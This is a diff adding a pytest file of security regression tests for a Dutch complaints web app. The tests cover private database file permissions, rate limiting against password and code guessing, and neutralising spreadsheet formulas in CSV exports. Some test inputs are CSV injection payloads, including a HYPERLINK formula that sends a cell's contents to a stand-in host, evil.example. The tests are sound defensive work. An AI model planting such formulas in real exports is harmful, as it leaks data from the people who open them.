@@ -1,0 +1,183 @@
+"""Issue 14, the probe's findings 2-8: each a reproduction that failed on the code before
+the fix (ADR 8, the threat model)."""
+
+from __future__ import annotations
+
+import csv
+import gc
+import io
+import os
+import stat
+import weakref
+from datetime import timedelta
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from conftest import PASSWORD, Harness, Site, Staff, complaint
+from sqlalchemy import update
+
+from runner import reports
+from runner.errors import RateLimited, ValidationFailed
+from runner.status import RateLimit, check_limit
+from runner.store import Dossier, DossierFacts, transaction
+from web.cli import main
+
+
+# ----- 8. no cache holding every database session
+def test_check_limit_keeps_no_reference_to_the_session(klachten):
+    with transaction(klachten.factory) as session:
+        check_limit(session, "a", "b", RateLimit(), klachten.clock.now(session))
+        watched = weakref.ref(session)
+    del session
+    gc.collect()
+    assert watched() is None
+
+
+# ----- 3. the instance folder and the SQLite files are the owner's only
+@pytest.fixture
+def umask_022():
+    old = os.umask(0o022)
+    yield
+    os.umask(old)
+
+
+def _mode(path: Path) -> int:
+    return stat.S_IMODE(path.stat().st_mode)
+
+
+def test_instance_folder_and_database_files_are_private(tmp_path, monkeypatch, umask_022):
+    instance = tmp_path / "instance"
+    monkeypatch.setenv("KLACHTEN_INSTANCE_PATH", str(instance))
+    monkeypatch.delenv("KLACHTEN_DATABASE_URL", raising=False)
+    result = CliRunner().invoke(main, ["init"])
+    assert result.exit_code == 0, result.output
+    assert _mode(instance) == 0o700
+    assert _mode(instance / "klachten.db") == 0o600
+    from runner.service import Klachten
+    from runner.settings import database_url
+
+    klachten = Klachten(database_url())
+    try:  # while a connection is open the WAL files exist
+        klachten.deploy()
+        Harness(klachten).submit()
+        for name in ("klachten.db", "klachten.db-wal", "klachten.db-shm"):
+            assert _mode(instance / name) == 0o600, name
+    finally:
+        klachten.close()
+
+
+def test_an_existing_lax_database_file_is_tightened(tmp_path, monkeypatch, umask_022):
+    instance = tmp_path / "instance"
+    instance.mkdir(mode=0o755)
+    (instance / "klachten.db").touch(mode=0o644)
+    monkeypatch.setenv("KLACHTEN_INSTANCE_PATH", str(instance))
+    monkeypatch.delenv("KLACHTEN_DATABASE_URL", raising=False)
+    assert CliRunner().invoke(main, ["init"]).exit_code == 0
+    assert _mode(instance) == 0o700 and _mode(instance / "klachten.db") == 0o600
+
+
+# ----- 6. spreadsheet formulas in the CSV export; categories from the model
+@pytest.mark.parametrize("value, expected", [
+    ("=HYPERLINK(\"https://evil.example\",\"klik\")", "'=HYPERLINK(\"https://evil.example\",\"klik\")"),
+    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
+    ("\rx", "'\rx"), ("terugbetaling", "terugbetaling"), ("2026-03-02", "2026-03-02"),
+    ("", ""), ("12", "12"),
+])
+def test_spreadsheet_safe(value, expected):
+    assert reports.spreadsheet_safe(value) == expected
+
+
+def test_csv_export_neutralises_formulas(staff: Staff, harness: Harness, klachten):
+    harness.submit()
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
+    with transaction(klachten.factory) as session:
+        session.execute(update(DossierFacts).values(category=formula))
+        session.execute(update(Dossier).values(category=formula))
+    staff.login("lea")
+    exported = staff.get("/bemiddeling/rapporten/dossiers.csv",
+                         query_string={"van": "2026-01-01", "tot": "2026-12-31"})
+    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
+    assert rows[1][3] == "'" + formula
+    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)
+
+
+def test_submit_refuses_a_category_the_model_does_not_know(klachten):
+    with pytest.raises(ValidationFailed) as refused:
+        klachten.submit(complaint(categorie="=HYPERLINK(\"https://evil.example\")"))
+    assert refused.value.codes == {"categorie": "enum"}
+    assert "kies uit" in refused.value.reasons["categorie"]
+    with transaction(klachten.factory) as session:
+        assert session.query(Dossier).count() == 0
+
+
+def test_intake_and_api_refuse_an_unknown_category(staff: Staff, client, klachten):
+    staff.login("mia")
+    page = staff.post("/bemiddeling/intake", {
+        "kanaal": "telefoon", "klager.voornaam": "An", "klager.achternaam": "Peeters",
+        "categorie": "=1+1", "taal": "nl", "omschrijving": "Te weinig terugbetaald."})
+    assert page.status_code == 400
+    from runner.accounts import Accounts
+
+    token = Accounts(klachten).new_token("mia")
+    answer = client.post("/api/v1/klachten", json=complaint(categorie="@SUM(1)"),
+                         headers={"Authorization": f"Bearer {token}"})
+    assert answer.status_code == 400 and answer.get_json()["codes"] == {"categorie": "enum"}
+    with transaction(klachten.factory) as session:
+        assert session.query(Dossier).count() == 0
+
+
+# ----- 2. nobody can lock a member or a mediator out; guessing stays impossible
+def _address(index: int) -> dict:
+    return {"REMOTE_ADDR": f"203.0.113.{index}"}
+
+
+def test_member_gets_in_while_an_attacker_hammers_the_dossier(site: Site, klachten):
+    number, code = site.file_complaint()
+    checked = 0
+    for round_ in range(3):
+        for index in range(1, 21):  # 20 addresses, 3 wrong codes each
+            answer = site.sign_in(number, "AAAA-AAAA-AAAA", environ_base=_address(index))
+            assert answer.status_code in (400, 429)
+            checked += answer.status_code == 400
+        member = site.sign_in(number, code, environ_base={"REMOTE_ADDR": "198.51.100.7"})
+        assert member.status_code == 302, round_
+    # 10 failures put the number under attack; after that each address got one try.
+    assert checked == 20
+    attacker = site.sign_in(number, code, environ_base=_address(3))
+    assert attacker.status_code == 429  # even the right code, from an address that failed
+    klachten.clock.set(klachten.clock.now() + timedelta(minutes=16))
+    assert site.sign_in(number, code, environ_base=_address(3)).status_code == 302
+
+
+def test_a_client_still_has_its_own_limit(site: Site):
+    number, code = site.file_complaint()
+    for attempt in range(10):
+        assert site.sign_in(f"KL-2026-{attempt + 100:05d}", code,
+                            environ_base=_address(1)).status_code == 400
+    assert site.sign_in(number, code, environ_base=_address(1)).status_code == 429
+
+
+def test_mediator_logs_in_while_an_attacker_hammers_her_name(staff: Staff, accounts):
+    wrong = 0
+    for index in range(1, 31):
+        answer = staff.login("mia", "fout-wachtwoord!", environ_base=_address(index))
+        assert answer.status_code in (400, 429)
+        wrong += answer.status_code == 400
+        if index % 10 == 0:
+            assert staff.login("mia", environ_base={"REMOTE_ADDR": "198.51.100.7"}
+                               ).status_code == 302
+            staff.post("/logout", {}, form_page="/bemiddeling/taken")
+    assert wrong == 30  # one try per fresh address: no address got a second one
+    again = staff.login("mia", "fout-wachtwoord!", environ_base=_address(1))
+    assert again.status_code == 429
+    assert staff.login("mia", environ_base=_address(2)).status_code == 429
+
+
+def test_login_attacker_from_one_address_is_stopped_after_five(accounts, klachten):
+    for _ in range(5):
+        with pytest.raises(ValidationFailed):
+            accounts.sign_in("mia", "fout-wachtwoord!", "192.0.2.1")
+    with pytest.raises(RateLimited):
+        accounts.sign_in("nora", "fout-wachtwoord!", "192.0.2.1")
+    assert accounts.sign_in("mia", PASSWORD, "192.0.2.2").name == "mia"
